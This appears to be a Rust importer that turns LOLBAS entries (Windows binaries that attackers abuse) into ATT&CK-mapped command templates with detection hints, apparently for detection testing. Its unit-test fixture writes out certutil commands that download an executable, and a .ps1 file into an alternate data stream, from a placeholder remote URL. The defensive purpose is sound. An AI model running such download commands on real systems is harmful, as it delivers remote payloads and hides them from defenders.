//! LOLBAS (Windows binaries, scripts and libraries that attackers live off) into the catalog.
//!
//! Each file (`yml/<folder>/<Name>.yml`) is one binary; each of its `Commands` becomes a
//! template keyed `<folder>/<Name>#<n>`, mapped to the command's own `MitreID` (matched
//! without regard to case: the data writes `MitreID`, its documentation `MitreId`). LOLBAS's
//! placeholders (`{REMOTEURL:.exe}`, `{PATH_ABSOLUTE}`) become input arguments whose default
//! is the placeholder itself; the binary's paths, detection hints and references travel in the
//! details, and the detection hints are a new template's expected detection.
use crate::domain::sources::CatalogImport;
use crate::dto::catalog::{
    DetectionHint, InputArgumentDto, LolbasDetails, SourceDetails, TemplateImportReport,
};
use crate::error::AppResult;
use crate::server::importers::templates::{self, UpstreamTemplate, skipped};
use crate::server::importers::yaml::{self, get, text, trimmed};
use crate::server::importers::{self, Importer, Input, ProgressFn};
use crate::server::platform::context::Actor;
use sea_orm::DatabaseConnection;
use serde_yaml_ng::{Mapping, Value};

pub const SOURCE: CatalogImport = CatalogImport::Lolbas;

/// A LOLBAS placeholder (`{PATH:.exe}`) turned into an input argument.
#[derive(Debug, Clone, PartialEq)]
pub struct Placeholder {
    /// As written, braces included.
    pub token: String,
    /// The input argument's name (`path_exe`).
    pub name: String,
}

/// The placeholders of a command, and the command with each as `#{name}`.
pub fn placeholders(command: &str) -> (String, Vec<Placeholder>) {
    let mut out = String::with_capacity(command.len());
    let mut found: Vec<Placeholder> = Vec::new();
    let mut rest = command;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let after = &rest[start + 1..];
        let end = after.find('}');
        let inner = end.map(|e| &after[..e]);
        let token_ok = inner.is_some_and(|inner| {
            let (head, suffix) = inner.split_once(':').unwrap_or((inner, ""));
            head.starts_with(|c: char| c.is_ascii_uppercase())
                && head.chars().all(|c| c.is_ascii_uppercase() || c == '_')
                && !suffix.contains(char::is_whitespace)
                && !suffix.contains(['{', '"', '\''])
        });
        match (inner, end) {
            (Some(inner), Some(end)) if token_ok => {
                let (head, suffix) = inner.split_once(':').unwrap_or((inner, ""));
                let suffix: String = suffix
                    .chars()
                    .filter(|c| c.is_ascii_alphanumeric())
                    .collect::<String>()
                    .to_lowercase();
                let name = if suffix.is_empty() {
                    head.to_lowercase()
                } else {
                    format!("{}_{suffix}", head.to_lowercase())
                };
                out.push_str(&format!("#{{{name}}}"));
                if !found.iter().any(|p| p.name == name) {
                    found.push(Placeholder {
                        token: format!("{{{inner}}}"),
                        name,
                    });
                }
                rest = &after[end + 1..];
            }
            _ => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    (out, found)
}

fn argument(placeholder: &Placeholder) -> InputArgumentDto {
    let head = placeholder.name.split('_').next().unwrap_or_default();
    let kind = match head {
        "remoteurl" | "url" => "url",
        "path" => "path",
        _ => "string",
    };
    InputArgumentDto {
        name: placeholder.name.clone(),
        description: format!("LOLBAS placeholder {}", placeholder.token),
        kind: kind.into(),
        default: placeholder.token.clone(),
    }
}

/// Whether LOLBAS's free-text privileges (`User`, `Administrator, Backup Operators`, `SYSTEM`,
/// `Local Admin`, …) need more than a standard user.
pub fn elevated(privileges: &str) -> bool {
    let p = privileges.trim().to_lowercase();
    !(p.is_empty() || p == "user" || p == "users" || p == "standard user")
}

/// The text under one key of each item of a list of one-key maps (`Full_Path: [{Path: …}]`).
fn listed(map: &Mapping, list: &str, key: &str) -> Vec<String> {
    match get(map, list) {
        Some(Value::Sequence(items)) => items
            .iter()
            .filter_map(|item| match item {
                Value::Mapping(m) => trimmed(get(m, key)),
                _ => None,
            })
            .collect(),
        _ => Vec::new(),
    }
}

/// `Detection: [{Sigma: url}, {IOC: text}]` and `Tags: [{Execute: EXE}]`: each one-key map as
/// (key, value).
fn pairs(value: Option<&Value>) -> Vec<DetectionHint> {
    let Some(Value::Sequence(items)) = value else {
        return Vec::new();
    };
    items
        .iter()
        .filter_map(|item| match item {
            Value::Mapping(m) => m.iter().next().and_then(|(k, v)| {
                Some(DetectionHint {
                    kind: text(k)?.trim().to_owned(),
                    value: text(v)?.trim().to_owned(),
                })
            }),
            _ => None,
        })
        .collect()
}

/// The templates of one LOLBAS file at `path` (an entry path, `yml/<folder>/<Name>.yml`).
pub fn parse_file(path: &str, source: &str) -> Result<Vec<UpstreamTemplate>, String> {
    let value: Value = serde_yaml_ng::from_str(source).map_err(|e| yaml::error(&e))?;
    let Value::Mapping(map) = value else {
        return Err("not a LOLBAS entry".into());
    };
    let binary = trimmed(get(&map, "Name")).ok_or("the entry has no Name")?;
    let Some(Value::Sequence(commands)) = get(&map, "Commands") else {
        return Err(format!("{binary} lists no Commands"));
    };
    let folder = path.split('/').nth(1).unwrap_or_default();
    let stem = path
        .rsplit('/')
        .next()
        .and_then(|f| f.rsplit_once('.'))
        .map_or(binary.as_str(), |(stem, _)| stem);
    let binary_description = trimmed(get(&map, "Description")).unwrap_or_default();
    let full_paths = listed(&map, "Full_Path", "Path");
    let resources = listed(&map, "Resources", "Link");
    let detections = pairs(get(&map, "Detection"));
    let expected = detections
        .iter()
        .map(|d| format!("{}: {}", d.kind, d.value))
        .collect::<Vec<_>>()
        .join("\n");
    let mut templates = Vec::new();
    for (index, command) in commands.iter().enumerate() {
        let n = index + 1;
        let Value::Mapping(command) = command else {
            return Err(format!("command {n} of {binary} is not a map"));
        };
        let original = get(command, "Command")
            .and_then(text)
            .map(|c| c.trim().to_owned())
            .filter(|c| !c.is_empty())
            .ok_or(format!("command {n} of {binary} has no Command"))?;
        let raw_id = trimmed(get(command, "MitreID"))
            .ok_or(format!("command {n} of {binary} has no MitreID"))?;
        let technique_id = yaml::technique_id(&raw_id).ok_or(format!(
            "command {n} of {binary}: '{raw_id}' is not an ATT&CK technique id"
        ))?;
        let description = trimmed(get(command, "Description")).unwrap_or_default();
        let usecase = trimmed(get(command, "Usecase")).unwrap_or_default();
        let privileges = trimmed(get(command, "Privileges")).unwrap_or_default();
        let (filled, found) = placeholders(&original);
        let summary = if description.is_empty() {
            usecase.clone()
        } else {
            description.clone()
        };
        templates.push(UpstreamTemplate {
            external_id: format!("{folder}/{stem}#{n}"),
            technique_id,
            name: format!("{binary}: {summary}"),
            description: [binary_description.as_str(), description.as_str()]
                .iter()
                .filter(|s| !s.is_empty())
                .copied()
                .collect::<Vec<_>>()
                .join("\n\n"),
            platforms: vec!["windows".into()],
            executor_name: Some("command_prompt".into()),
            command: filled,
            cleanup_command: None,
            elevation_required: elevated(&privileges),
            input_arguments: found.iter().map(argument).collect(),
            dependencies: Vec::new(),
            dependency_executor_name: None,
            source_url: SOURCE.source_url(path),
            details: Some(SourceDetails::Lolbas(LolbasDetails {
                path: path.to_owned(),
                binary: binary.clone(),
                binary_description: binary_description.clone(),
                author: trimmed(get(&map, "Author")).unwrap_or_default(),
                created: trimmed(get(&map, "Created")).unwrap_or_default(),
                usecase,
                category: trimmed(get(command, "Category")).unwrap_or_default(),
                privileges,
                operating_system: trimmed(get(command, "OperatingSystem")).unwrap_or_default(),
                original_command: original,
                full_paths: full_paths.clone(),
                detections: detections.clone(),
                resources: resources.clone(),
                tags: pairs(get(command, "Tags"))
                    .into_iter()
                    .map(|t| format!("{}: {}", t.kind, t.value))
                    .collect(),
            })),
            initial_expected_detection: expected.clone(),
        });
    }
    if templates.is_empty() {
        return Err(format!("{binary} lists no Commands"));
    }
    Ok(templates)
}

pub struct ParsedLolbas {
    templates: Vec<UpstreamTemplate>,
    report: TemplateImportReport,
}

pub struct Lolbas;

impl Importer for Lolbas {
    type Parsed = ParsedLolbas;
    type Report = TemplateImportReport;

    fn parse(input: Input, progress: ProgressFn<'_>) -> AppResult<ParsedLolbas> {
        let files = input.into_files()?;
        let mut report = TemplateImportReport {
            files: files.len(),
            ..Default::default()
        };
        let total = files.len();
        let mut all = Vec::new();
        for (done, file) in files.into_iter().enumerate() {
            match parse_file(&file.path, &file.text) {
                Ok(found) => all.extend(found),
                Err(reason) => report.skipped.push(skipped(file.path, reason)),
            }
            importers::report(progress, "Parsing LOLBAS entries", done + 1, total);
        }
        Ok(ParsedLolbas {
            templates: all,
            report,
        })
    }

    async fn upsert(
        db: &DatabaseConnection,
        actor: &Actor,
        parsed: ParsedLolbas,
        _source: &str,
        progress: ProgressFn<'_>,
    ) -> AppResult<TemplateImportReport> {
        templates::import(
            db,
            actor,
            SOURCE,
            &parsed.templates,
            parsed.report,
            progress,
        )
        .await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CERTUTIL: &str = r#"---
Name: Certutil.exe
Description: Windows binary used for handling certificates
Author: Oddvar Moe
Created: 2018-05-25
Commands:
  - Command: certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}
    Description: Download and save an executable to disk in the current folder.
    Usecase: Download file from Internet
    Category: Download
    Privileges: User
    MitreID: T1105
    OperatingSystem: Windows 10, Windows 11
  - Command: certutil.exe -urlcache -f {REMOTEURL:.ps1} {PATH_ABSOLUTE}:ttt
    Description: Download a .ps1 file to an ADS.
    Category: ADS
    Privileges: Administrator, Backup Operators
    MitreId: t1564.004
    Tags:
      - Application: GUI
Full_Path:
  - Path: C:\Windows\System32\certutil.exe
Detection:
  - Sigma: https://example.test/sigma.yml
  - IOC: Certutil.exe creating new files on disk
Resources:
  - Link: https://example.test/blog
"#;

    #[test]
    fn each_command_is_a_template_with_its_own_technique() {
        let t = parse_file("yml/OSBinaries/Certutil.yml", CERTUTIL).unwrap();
        assert_eq!(t.len(), 2);
        assert_eq!(t[0].external_id, "OSBinaries/Certutil#1");
        assert_eq!(t[0].technique_id, "T1105");
        assert_eq!(
            t[0].name,
            "Certutil.exe: Download and save an executable to disk in the current folder."
        );
        assert_eq!(
            t[0].command,
            "certutil.exe -urlcache -f #{remoteurl_exe} #{path_exe}"
        );
        assert_eq!(t[0].input_arguments[0].default, "{REMOTEURL:.exe}");
        assert_eq!(t[0].input_arguments[0].kind, "url");
        assert!(!t[0].elevation_required);
        assert_eq!(
            t[0].initial_expected_detection,
            "Sigma: https://example.test/sigma.yml\nIOC: Certutil.exe creating new files on disk"
        );
        assert_eq!(
            t[0].source_url,
            "https://lolbas-project.github.io/lolbas/Binaries/Certutil/"
        );
        // `MitreId` spelled as the documentation does, and lower-case.
        assert_eq!(t[1].technique_id, "T1564.004");
        assert!(t[1].elevation_required);
        assert_eq!(
            t[1].command,
            "certutil.exe -urlcache -f #{remoteurl_ps1} #{path_absolute}:ttt"
        );
        let Some(SourceDetails::Lolbas(d)) = &t[1].details else {
            panic!("LOLBAS details")
        };
        assert_eq!(d.created, "2018-05-25");
        assert_eq!(d.full_paths, vec![r"C:\Windows\System32\certutil.exe"]);
        assert_eq!(d.tags, vec!["Application: GUI"]);
        assert_eq!(d.resources, vec!["https://example.test/blog"]);
        assert_eq!(
            d.original_command,
            "certutil.exe -urlcache -f {REMOTEURL:.ps1} {PATH_ABSOLUTE}:ttt"
        );
    }

    #[test]
    fn braces_that_are_not_placeholders_stay() {
        let (filled, found) =
            placeholders("powershell -c \"& {Get-Item x}\" {PATH} {path} {CMD} {A b}");
        assert_eq!(
            filled,
            "powershell -c \"& {Get-Item x}\" #{path} {path} #{cmd} {A b}"
        );
        assert_eq!(found.len(), 2);
        assert_eq!(placeholders("{ unclosed").0, "{ unclosed");
    }

    #[test]
    fn broken_entries_say_what_is_wrong() {
        for (text, reason) in [
            ("Name: X\n", "lists no Commands"),
            ("Name: X\nCommands:\n  - Command: x\n", "has no MitreID"),
            ("Name: X\nCommands:\n  - MitreID: T1105\n", "has no Command"),
            (
                "Name: X\nCommands:\n  - Command: x\n    MitreID: 1105\n",
                "'1105' is not an ATT&CK technique id",
            ),
            ("Description: no name\n", "has no Name"),
            ("Name: [\n", "line"),
        ] {
            let err = parse_file("yml/OSBinaries/X.yml", text).unwrap_err();
            assert!(err.contains(reason), "{err} should say {reason}");
        }
        assert!(elevated("SYSTEM"));
        assert!(elevated("Local Admin"));
        assert!(!elevated(" user "));
    }
}
